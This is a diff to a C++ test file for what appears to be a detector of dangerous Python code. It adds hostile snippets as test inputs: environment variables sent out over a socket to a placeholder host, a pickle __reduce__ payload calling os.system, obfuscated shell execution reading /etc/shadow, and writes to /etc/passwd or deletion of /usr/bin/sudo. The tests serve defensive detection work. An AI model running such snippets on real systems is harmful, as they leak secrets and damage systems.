@@ -80,6 +80,20 @@ const Case kCases[] = {
      "0)",
      "import os\nos.dup2(1, 2)"},
     {"heuristics.fork-bomb", "import os\nwhile True:\n    os.fork()", "import os\npid = os.fork()"},
+    {"heuristics.network-loop",
+     "import smtplib\ns = smtplib.SMTP('mx', 25)\nfor i in range(1000):\n    s.sendmail('a', 'b', "
+     "'c')",
+     "import smtplib\ns = smtplib.SMTP('mx', 25)\ns.sendmail('a', 'b', 'c')\nfor i in range(3):\n  "
+     "  "
+     "print(i)"},
+    {"heuristics.exfiltration",
+     "import json, os, socket\ns = "
+     "socket.socket()\ns.sendto(json.dumps(dict(os.environ)).encode(), "
+     "('h', 53))",
+     "import os, socket\ns = socket.socket()\nprint(os.environ.get('HOME'), os.environ['PATH'])"},
+    {"heuristics.callable-reference",
+     "import os\nclass P:\n    def __reduce__(self):\n        return (os.system, ('id',))",
+     "import os\nfrom os import system\nprint(os.path.join('a', 'b'))"},
 };
 
 }  // namespace
@@ -98,6 +112,41 @@ TEST_CASE("every rule has a positive and a negative example") {
     INFO("rule without cases: " << rule.id);
     CHECK(covered.count(rule.id) == 1);
   }
+}
+
+TEST_CASE("names spelled in pieces are folded back together") {
+  CHECK(rules_found("m = __import__(''.join(['s', 'u', 'b', 'process']))\n"
+                    "m.check_output('id', shell=True)")
+            .count("heuristics.shell-command"));
+  CHECK(rules_found("import importlib\nm = importlib.import_module('{}{}'.format('o', 's'))\n"
+                    "m.popen('%s %s' % ('cat', '/etc/shadow'))")
+            .count("heuristics.shell-command"));
+  CHECK(rules_found("import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('id')")
+            .count("heuristics.shell-command"));
+  CHECK(rules_found("import os\nname = '-'.join(['a', 'b'])\nprint(name)").empty());
+}
+
+TEST_CASE("pathlib writes to system paths are seen") {
+  CHECK(rules_found("from pathlib import Path\nPath('/etc/passwd').write_text('x')")
+            .count("heuristics.system-path-write"));
+  CHECK(rules_found("import pathlib\n(pathlib.Path('/usr') / 'bin' / 'sudo').unlink()")
+            .count("heuristics.system-path-write"));
+  CHECK(rules_found("from pathlib import Path\nprint(Path('/etc/hostname').read_text())")
+            .count("heuristics.system-path-write") == 0);
+  CHECK(rules_found("from pathlib import Path\nPath('out.txt').write_text('x')").empty());
+}
+
+TEST_CASE("loops are told apart from straight-line code") {
+  auto looped = [](const std::string& code) {
+    return rules_found("import requests\n" + code).count("heuristics.network-loop") == 1;
+  };
+  CHECK(looped("for u in urls:\n    requests.get(u)"));
+  CHECK(looped("while True: requests.get('http://x')"));
+  CHECK(looped("pages = [requests.get(u) for u in urls]"));
+  CHECK(looped("async def f():\n    async for u in feed():\n        requests.get(u)"));
+  CHECK_FALSE(looped("r = requests.get('http://x')\nfor line in r.text.split():\n    print(line)"));
+  CHECK_FALSE(looped("def fetch(u):\n    return requests.get(u)\nprint(fetch('http://x'))"));
+  CHECK_FALSE(looped("async def f():\n    return requests.get('http://x')"));
 }
 
 TEST_CASE("obfuscated forms are still seen") {
